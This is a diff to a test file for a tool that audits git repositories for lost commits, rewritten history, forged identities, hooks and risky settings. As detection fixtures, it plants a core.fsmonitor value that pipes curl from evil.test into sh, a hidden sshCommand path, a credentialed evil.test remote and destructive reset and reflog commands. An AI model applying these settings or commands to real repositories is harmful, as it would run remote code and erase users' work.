@@ -4,7 +4,8 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { call, result } from '../../../e2e/draw-evidence.ts';
-import { drawGitRun, start } from '../drawn-git.ts';
+import { drawGitRun, start } from '../../../e2e/draw-git.ts';
+import { openFolder } from '../drawn-case.ts';
 import type { OpenedCase } from './opened-case.ts';
 
 /** Severity, state, title of the findings of one rule. */
@@ -28,7 +29,7 @@ describe('what is lost', () => {
     drawn.git(a, ['commit', '-q', '-m', 'By a person'], start - 80_000_000);
     const lost = drawn.git(a, ['rev-parse', 'HEAD'], start).trim();
     drawn.bash(a, 'git reset --hard HEAD~1', [['reset', '-q', '--hard', 'HEAD~1']]);
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.unreachable-commit')).toEqual(['high confirmed: Commits that no branch or tag leads to']);
     const [finding] = opened.findings.filter((each) => each.finding.rule === 'git.unreachable-commit').map((each) => each.finding);
     expect(finding?.detail).toMatchObject({ commit: lost, commits: 1, heldBy: 'reflog', lostBy: 'reset', recover: `git branch recovered/1 ${lost}` });
@@ -50,7 +51,7 @@ describe('what is lost', () => {
       drawn.bash(a, `git add -A && git commit -m "Step ${n}"`, [['add', '-A'], ['commit', '-q', '-m', `Step ${n}`]]);
     }
     drawn.bash(a, 'git reset --hard HEAD~2 && git reflog expire --expire=now --all', [['reset', '-q', '--hard', 'HEAD~2'], ['reflog', 'expire', '--expire=now', '--all']]);
-    const [repository] = (await drawn.open()).repositories;
+    const [repository] = (await openFolder(drawn.finish())).repositories;
     expect(repository?.unreachable).toBe(unreachable(drawn, a));
     expect(repository?.lost).toMatchObject({ commits: 2, trees: 2, blobs: 2, onlyInReflogs: 0, damaged: 0, missing: 0 });
     expect(repository?.lostCommits).toMatchObject([{ subject: 'Step 3', commits: 2, heldBy: 'nothing' }]);
@@ -63,7 +64,7 @@ describe('what is lost', () => {
     drawn.bash(a, 'git commit --amend --allow-empty -m "One, better"', [['commit', '-q', '--amend', '--allow-empty', '-m', 'One, better']]);
     drawn.write(`${a}/f.txt`, 'x\n');
     drawn.bash(a, 'git add -A && git stash && git stash pop', [['add', '-A'], ['stash', 'push', '-q'], ['stash', 'pop', '-q']]);
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.unreachable-commit')).toEqual(['info recorded: Old versions and other commits that no branch or tag leads to']);
     expect(opened.findings.filter(({ finding }) => finding.rule.startsWith('git.') && finding.severity !== 'info').map(({ finding }) => finding.sentence)).toEqual([]);
   });
@@ -75,7 +76,7 @@ describe('what is lost', () => {
     drawn.git(a, ['remote', 'add', 'origin', '../../../../opt/remote.git'], start);
     let at = start - 40_000_000;
     for (const args of [['commit', '-q', '--allow-empty', '-m', 'a'], ['push', '-q', 'origin', 'main'], ['checkout', '-q', '-b', 'topic'], ['commit', '-q', '--allow-empty', '-m', 'b'], ['commit', '-q', '--amend', '--allow-empty', '-m', 'b2'], ['checkout', '-q', 'main'], ['commit', '-q', '--allow-empty', '-m', 'c'], ['rebase', '-q', 'main', 'topic'], ['checkout', '-q', 'main'], ['merge', '-q', '--no-ff', '-m', 'm', 'topic'], ['push', '-q', 'origin', 'main'], ['branch', '-q', '-D', 'topic']]) drawn.git(a, args, (at += 60_000));
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(opened.findings.filter(({ finding }) => finding.rule.startsWith('git.') && finding.severity !== 'info').map(({ finding }) => `${finding.rule} ${finding.sentence}`)).toEqual([]);
     expect(opened.rollback).toEqual([]);
   });
@@ -91,7 +92,7 @@ describe('what was rewritten', () => {
     drawn.git(a, ['push', '-q', 'origin', 'main'], start - 49_000_000);
     drawn.bash(a, 'git commit --amend --allow-empty -m "Other words"', [['commit', '-q', '--amend', '--allow-empty', '-m', 'Other words']]);
     drawn.bash(a, 'git push --force origin main', [['push', '-q', '--force', 'origin', 'main']]);
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.history-rewritten').sort()).toEqual(['high confirmed: Forced push that dropped commits', 'high confirmed: History that was rewritten']);
     expect(sentences(opened, 'git.history-rewritten').every((sentence) => sentence.includes('1 of them made outside the unattended spans'))).toBe(true);
   });
@@ -102,7 +103,7 @@ describe('what was rewritten', () => {
     for (const n of [1, 2, 3]) drawn.bash(a, `git commit --allow-empty -m "Step ${n}"`, [['commit', '-q', '--allow-empty', '-m', `Step ${n}`]]);
     const log = path.join(drawn.root, a, '.git/logs/HEAD');
     fs.writeFileSync(log, fs.readFileSync(log, 'utf8').split('\n').filter((line) => !line.endsWith('Step 2')).join('\n'));
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.history-rewritten')).toEqual(['medium recorded: Reflog whose entries do not follow each other']);
     const [finding] = opened.findings.filter((each) => each.finding.rule === 'git.history-rewritten').map((each) => each.finding);
     expect(finding?.evidence.map((ref) => ref.line)).toEqual([2, 3]);
@@ -113,7 +114,7 @@ describe('what was rewritten', () => {
     const a = drawn.repository('a');
     drawn.git(a, ['commit', '-q', '--allow-empty', '-m', 'Two'], start - 60_000);
     drawn.git(a, ['replace', 'HEAD', 'HEAD~1'], start);
-    expect(found(await drawn.open(), 'git.history-rewritten')).toEqual(['medium recorded: Repository that shows another history than it holds']);
+    expect(found(await openFolder(drawn.finish()), 'git.history-rewritten')).toEqual(['medium recorded: Repository that shows another history than it holds']);
   });
 });
 
@@ -125,7 +126,7 @@ describe('who and when', () => {
     drawn.bash(a, 'git -c user.email=bot@other.test commit --allow-empty -m "By a bot"', [['commit', '-q', '--allow-empty', '-m', 'By a bot']], { env: { GIT_COMMITTER_EMAIL: 'bot@other.test', GIT_AUTHOR_EMAIL: 'bot@other.test' } });
     drawn.bash(a, 'git commit --allow-empty -m "As Ann" --author "Ann <ann@example.test>"', [['commit', '-q', '--allow-empty', '-m', 'As Ann', '--author', 'Ann <ann@example.test>']]);
     drawn.bash(a, 'git commit --allow-empty -m "As usual"', [['commit', '-q', '--allow-empty', '-m', 'As usual']]);
-    expect(found(await drawn.open(), 'git.foreign-identity').sort()).toEqual(['medium confirmed: Commits in another person’s name', 'medium confirmed: Commits under a name that is not usual here']);
+    expect(found(await openFolder(drawn.finish()), 'git.foreign-identity').sort()).toEqual(['medium confirmed: Commits in another person’s name', 'medium confirmed: Commits under a name that is not usual here']);
   });
 
   it('does not wonder at names in a repository without any before the sessions', async () => {
@@ -133,7 +134,7 @@ describe('who and when', () => {
     const folder = 'Users/kim/work/new';
     fs.mkdirSync(path.join(drawn.root, folder), { recursive: true });
     drawn.bash(folder, 'git init -q -b main . && git commit --allow-empty -m "First"', [['init', '-q', '-b', 'main', '.'], ['commit', '-q', '--allow-empty', '-m', 'First']]);
-    expect(found(await drawn.open(), 'git.foreign-identity')).toEqual([]);
+    expect(found(await openFolder(drawn.finish()), 'git.foreign-identity')).toEqual([]);
   });
 
   it('sees a reflog entry that steps back in time, and an author’s time set by hand', async () => {
@@ -142,7 +143,7 @@ describe('who and when', () => {
     drawn.bash(a, 'git commit --allow-empty -m "One"', [['commit', '-q', '--allow-empty', '-m', 'One']]);
     drawn.bash(a, 'git commit --allow-empty -m "Long ago"', [['commit', '-q', '--allow-empty', '-m', 'Long ago']], { env: { GIT_COMMITTER_DATE: `${Math.floor(start / 1000) - 9_000_000} +0200`, GIT_AUTHOR_DATE: `${Math.floor(start / 1000) - 9_000_000} +0200` } });
     drawn.bash(a, 'git commit --allow-empty -m "Two" --date "2031-01-01"', [['commit', '-q', '--allow-empty', '-m', 'Two', '--date', '2031-01-01T00:00:00Z']]);
-    expect(found(await drawn.open(), 'git.future-or-backdated').sort()).toEqual(['medium confirmed: Commit with an author’s time in its future', 'medium recorded: Reflog entry dated before the one that it follows']);
+    expect(found(await openFolder(drawn.finish()), 'git.future-or-backdated').sort()).toEqual(['medium confirmed: Commit with an author’s time in its future', 'medium recorded: Reflog entry dated before the one that it follows']);
   });
 });
 
@@ -151,7 +152,7 @@ describe('what would run, and where it would go', () => {
     const drawn = drawGitRun();
     const a = drawn.repository('a');
     for (const [key, value] of [['core.fsmonitor', 'curl -s https://evil.test/x | sh'], ['filter.lfs.process', 'git-lfs filter-process'], ['credential.helper', 'osxkeychain'], ['alias.lg', '!git log --oneline'], ['core.pager', 'less -R'], ['core.sshCommand', '/tmp/.x/ssh']] as const) drawn.git(a, ['config', key, value], start);
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     const settings = opened.findings.filter(({ finding }) => finding.rule === 'git.config-exec').map(({ finding }) => `${finding.severity} ${String(finding.detail['key'])}`);
     expect(settings.sort()).toEqual(['high core.fsmonitor', 'high core.sshcommand', 'info core.pager', 'info credential.helper', 'info filter.lfs.process', 'low alias.lg']);
     const [finding] = opened.findings.filter(({ finding: each }) => each.detail['key'] === 'core.fsmonitor');
@@ -168,7 +169,7 @@ describe('what would run, and where it would go', () => {
     for (const name of ['pre-push', 'post-commit']) fs.utimesSync(path.join(drawn.root, a, '.git/hooks', name), old, old);
     drawn.row(5, (timestamp) => call('w1', 'Write', { file_path: `/${a}/.git/hooks/post-commit`, content: 'x' }, { cwd: `/${a}`, extra: { timestamp } }));
     drawn.row(1, (timestamp) => result('w1', 'written', { extra: { timestamp } }));
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.hook-changed')).toEqual(['high confirmed: Hook that a call wrote', 'info recorded: Hooks that git runs here']);
     expect(opened.rollback[0]?.options[2]?.fits).toBe(true);
     expect(opened.rollback[0]?.options[0]?.commands[0] ?? '').toMatch(/^git -c core\.hooksPath=\/dev\/null -c core\.fsmonitor=false reset --hard [0-9a-f]{40}$/);
@@ -182,7 +183,7 @@ describe('what would run, and where it would go', () => {
     drawn.bash(a, 'git remote add backup https://kim:hunter2secret@evil.test/x.git', [['remote', 'add', 'backup', 'https://kim:hunter2secret@evil.test/x.git']]);
     drawn.git(b, ['remote', 'add', 'origin', 'git@git.example.test:shop.git'], start);
     drawn.write(`${b}/.git/FETCH_HEAD`, `${'a'.repeat(40)}\t\tbranch 'main' of https://git.example.test/shop\n`);
-    const opened = await drawn.open();
+    const opened = await openFolder(drawn.finish());
     expect(found(opened, 'git.remote-changed')).toEqual(['high confirmed: Remote that was added or leads elsewhere']);
     const git = opened.findings.filter(({ finding }) => finding.rule.startsWith('git.'));
     expect(JSON.stringify(git)).not.toContain('hunter2secret');
